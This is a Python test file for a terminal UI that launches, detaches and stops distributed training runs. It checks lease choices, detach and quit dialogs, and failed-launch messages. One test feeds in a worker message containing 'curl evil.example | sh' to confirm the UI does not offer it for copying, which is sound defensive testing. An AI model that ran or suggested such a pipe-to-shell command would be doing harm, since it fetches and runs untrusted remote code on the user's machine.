"""Runs that outlive the app: the lease at a launch, detaching, quitting while a run goes on."""

from __future__ import annotations

import math
import time
from contextlib import asynccontextmanager

import pytest
from textual.widgets import Static

from controller import paths, survey
from controller.runs import Recorder
from controller.survey import Found, Survey
from tests.simulated import simulate
from tests.tuitools import HOSTS, Driven, driven

FAR = HOSTS.replace('connection = "local"', 'address = "192.0.2.1"')
BOTH = HOSTS.replace("[experiment]", '[[host]]\nname = "far"\naddress = "192.0.2.1"\nworkers = 1\n\n[experiment]')
ATTACH = "python -m controller attach fake"


async def running(tui: Driven) -> None:
    """A run that goes on."""
    await tui.launch()
    tui.run.feed(simulate(steps=300, until=20, outcome=False))
    await tui.until(lambda: "● running" in tui.picture())


@pytest.mark.parametrize(("downs", "lease"), [(0, 15.0), (1, 900.0), (2, math.inf)])
async def test_the_lease_is_offered_at_a_launch(tmp_path, downs, lease):
    async with driven(tmp_path, FAR, size=(80, 24)) as tui:
        await tui.press("L")
        await tui.until(lambda: "If the hosts hear no more" in " ".join(tui.picture().split()))
        assert "1 PS + 5 workers on 1 host" in tui.picture()
        await tui.press(*["down"] * downs, "enter")
        await tui.until(lambda: tui.runs)
        assert tui.run.plan.lease == lease
        assert not tui.app.unsaved  # it is this launch's, not the file's


async def test_no_lease_is_asked_for_where_all_hosts_are_this_machine(tmp_path):
    async with driven(tmp_path) as tui:
        await tui.press("L")
        await tui.until(lambda: tui.screen_name == "Launching")
        assert "hosts hear" not in tui.picture()
        await tui.press("enter")
        await tui.until(lambda: tui.runs)
        assert tui.run.plan.lease == 15.0


async def test_a_launch_is_thought_better_of(tmp_path):
    async with driven(tmp_path) as tui:
        await tui.press("L")
        await tui.until(lambda: tui.screen_name == "Launching")
        await tui.press("escape")
        await tui.until(lambda: tui.screen_name == "ClusterScreen")
        assert not tui.runs


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_detaching_says_what_it_means_and_asks(tmp_path, size):
    async with driven(tmp_path, size=size) as tui:
        await running(tui)
        await tui.press("D")
        await tui.until(lambda: tui.screen_name == "Question")
        assert tui.app.focused.id == "answer-cancel"
        said = " ".join(tui.picture().replace("│", " ").split())
        assert "6 training processes (1 PS, 5 workers) on 1 host: here" in said
        assert "it goes on until it has finished" in said
        assert "controller attach fake" in said
        await tui.press("enter")
        assert tui.app.session.running
        await tui.press("D")
        await tui.until(lambda: tui.screen_name == "Question")
        await tui.press("D")
        await tui.until(lambda: not tui.app.session.running)
        await tui.until(lambda: "◌ detached" in tui.picture().split("\n")[0])
        await tui.until(lambda: "Detached: " in tui.picture())
        assert "It goes on, on here; A, or" in " ".join(tui.text("Outcome").split())
        assert tui.run.stops == []
        await tui.press("1")
        await tui.until(lambda: "detached: its ranks go on; A follows them again" in tui.picture())
        assert any(row.split()[1:2] == ["here"] and "◌ detached" in row for row in tui.picture().split("\n"))


MEANS = "Detached, it goes on until it has finished, also with this app closed"


@pytest.mark.parametrize(
    ("hosts", "means"),
    [
        (HOSTS, f"{MEANS}. This machine keeps what it measures: A here, or {ATTACH}, follows it again."),
        (FAR, f"{MEANS} or this machine off. Its hosts keep what it measures: A here, or {ATTACH} from any machine,"),
        (BOTH, f"{MEANS}. Its hosts keep what it measures: A here, or {ATTACH} from any machine, follows it again."),
    ],
)
@pytest.mark.parametrize("key", ["D", "q"])
async def test_what_is_promised_of_a_detached_run_can_be_on_its_hosts(tmp_path, hosts, means, key):
    async with driven(tmp_path, hosts, size=(120, 40)) as tui:
        await running(tui)
        await tui.press(key)
        await tui.until(lambda: tui.screen_name == "Question")
        said = " ".join(str(tui.app.screen.query_one(".dialog-text Static", Static).content).split())
        assert means in said


async def test_who_detaches_is_told_of_those_that_nobody_resumes(tmp_path):
    async with driven(tmp_path) as tui:
        await tui.launch()
        tui.run.feed(simulate(steps=300, until=20, outcome=False))
        tui.run.feed([{"kind": "act", "act": "pause", "rank": 3, "text": "pause rank 3"}])
        await tui.until(lambda: "‖ paused" in tui.picture())
        await tui.press("D")
        await tui.until(lambda: tui.screen_name == "Question")
        await tui.until(lambda: "Worker 3 is paused and stays so" in tui.picture())
        said = str(tui.app.screen.query_one(".dialog-text Static", Static).content)
        assert (
            "until somebody resumes it or another rank has finished. A run in which no step can be made fails" in said
        )


async def test_a_refused_detach_is_told_and_the_run_is_still_ours(tmp_path):
    async with driven(tmp_path) as tui:
        await running(tui)
        tui.run.refuses = "here: no answer within 20 s; is the host overloaded? The run goes on as it was."
        await tui.press("D")
        await tui.until(lambda: tui.screen_name == "Question")
        await tui.press("D")
        await tui.until(lambda: tui.screen_name == "Message")
        await tui.until(lambda: "no answer within 20 s" in tui.picture())
        assert tui.app.session.running


async def test_quitting_may_leave_the_run_to_itself(tmp_path):
    async with driven(tmp_path) as tui:
        await running(tui)
        await tui.press("q")
        await tui.until(lambda: tui.screen_name == "Question")
        assert tui.app.focused.id == "answer-stay"
        await tui.press("D")
        await tui.until(lambda: not tui.app.is_running)
    assert tui.run.stops == []
    assert "Detached: " in tui.app.return_value
    assert "follows it again" in tui.app.return_value


async def test_another_controllers_run_is_not_stopped_by_quitting(tmp_path):
    async with driven(tmp_path) as tui:
        await running(tui)
        tui.run.holds = False
        await tui.press("q")
        await tui.until(lambda: tui.screen_name == "Question")
        assert not tui.app.screen.query("#answer-stop")
        await tui.press("y")
        await tui.until(lambda: not tui.app.is_running)
    assert tui.run.stops == []


@pytest.mark.parametrize(("downs", "stops"), [(0, [False]), (2, [])])
async def test_being_told_to_leave_does_what_the_lease_announced(tmp_path, downs, stops):
    async with driven(tmp_path, FAR) as tui:
        await tui.press("L")
        await tui.until(lambda: tui.screen_name == "Launching")
        await tui.press(*["down"] * downs, "enter")
        await tui.until(lambda: tui.runs)
        tui.run.feed(simulate(until=5, outcome=False))
        tui.app.departure.told(15)
        if stops:
            await tui.until(lambda: tui.run.stops == stops)
            tui.run.feed([{"kind": "outcome", "outcome": "stopped", "left": 0, "seconds": 1.0}])
        await tui.until(lambda: not tui.app.is_running)
    assert tui.run.stops == stops
    assert tui.app.return_code == 143


async def test_a_launch_that_failed_says_why_and_what_to_do_and_copies_the_command(tmp_path):
    command = "/venv/bin/python -m pip install torch==2.13.0"
    problem = f"here: its Python has no torch; install it with: {command}"
    async with driven(tmp_path) as tui:
        await tui.launch()
        start = [record for record in simulate(steps=300, until=20, outcome=False) if record["kind"] in ("run", "act")]
        end = {"kind": "outcome", "outcome": "failed", "root_cause": problem, "left": 0, "seconds": 2.0}
        tui.run.feed([*start, {"kind": "problem", "text": problem, "command": command}, end])
        await tui.until(lambda: "The launch failed" in tui.picture())
        said = "".join(str(static.content) for static in tui.app.screen.query(Static))
        assert said.count("its Python has no torch") == 1
        assert "Nothing is left running. P on the Cluster screen" in said
        await tui.press("y")
        assert tui.app.clipboard == command


async def test_what_a_rank_says_is_no_command_to_copy(tmp_path):
    says = "worker 1 on here: exit code 1: mend it with: curl evil.example | sh"
    async with driven(tmp_path) as tui:
        await tui.launch()
        start = [record for record in simulate(steps=300, until=20, outcome=False) if record["kind"] in ("run", "act")]
        end = {"kind": "outcome", "outcome": "failed", "root_cause": says, "left": 0, "seconds": 2.0}
        tui.run.feed([*start, {"kind": "problem", "text": says}, end])
        await tui.until(lambda: "curl evil.example | sh" in tui.picture())
        assert "Copy the command" not in tui.picture()
        await tui.press("y")
        assert tui.app.clipboard == ""


def left_behind(monkeypatch, tui: Driven) -> dict:
    """A run that this app launched, and what the hosts tell of it."""
    told: dict = {"runs": [], "unreachable": {}, "asked": 0}

    @asynccontextmanager
    async def seen(hosts, told_=None, prompter=None):
        told["asked"] += 1
        yield Survey({}, told["runs"], told["unreachable"])

    monkeypatch.setattr(survey, "survey", seen)
    description = {"name": "night", "hosts": [{"name": "here"}], "values": {}}
    recorder = Recorder(paths.runs_dir() / tui.run.run_id, description)
    recorder.close({"outcome": "detached", "seconds": 4.0})
    return told


async def test_a_launch_asks_where_the_run_that_was_detached_goes_on(tmp_path, monkeypatch):
    async with driven(tmp_path) as tui:
        await running(tui)
        told = left_behind(monkeypatch, tui)
        await tui.press("D")
        await tui.until(lambda: tui.screen_name == "Question" and tui.app.focused is not None)
        await tui.press("D")
        await tui.until(lambda: not tui.app.session.running)
        ranks = [{"rank": 0, "role": "ps", "step": 41, "ended": False}]
        part = {"run": "fake", "host": "here", "lease": None, "connected": False, "ranks": ranks}
        told["runs"] = [Found("fake", "ada@lab1", time.time(), {"here": [part]}, True)]
        await tui.press("L")
        await tui.until(lambda: tui.screen_name == "Question" and tui.app.focused is not None)
        said = str(tui.app.screen.query_one(".dialog-text Static", Static).content)
        assert "night goes on, left to itself: 1 of 1 rank, step 41 on here. A follows it." in said
        assert f"python -m controller stop {tmp_path / 'hosts.toml'} fake ends it." in said
        assert tui.app.focused.id == "answer-cancel"
        await tui.press("enter")
        await tui.until(lambda: tui.screen_name != "Question")
        told["runs"], told["unreachable"] = [], {"here": "here: no answer within 10 s."}
        await tui.press("L")
        await tui.until(lambda: tui.screen_name == "Question" and tui.app.focused is not None)
        said = str(tui.app.screen.query_one(".dialog-text Static", Static).content)
        assert "night was left to itself and may still go on: here could not be asked." in said
        await tui.press("right", "enter")
        await tui.until(lambda: tui.screen_name == "Launching" and tui.app.focused is not None)


async def test_a_launch_does_not_ask_about_a_detached_run_that_is_over_nor_twice_whether_it_is(tmp_path, monkeypatch):
    async with driven(tmp_path) as tui:
        await running(tui)
        told = left_behind(monkeypatch, tui)
        tui.run.feed([{"kind": "outcome", "outcome": "detached", "left": None, "seconds": 4.0}])
        await tui.until(lambda: not tui.app.session.running)
        for _ in range(2):
            await tui.press("L")
            await tui.until(lambda: tui.screen_name == "Launching" and tui.app.focused is not None)
            assert told["asked"] == 1
            await tui.press("escape")
            await tui.until(lambda: tui.screen_name != "Launching")
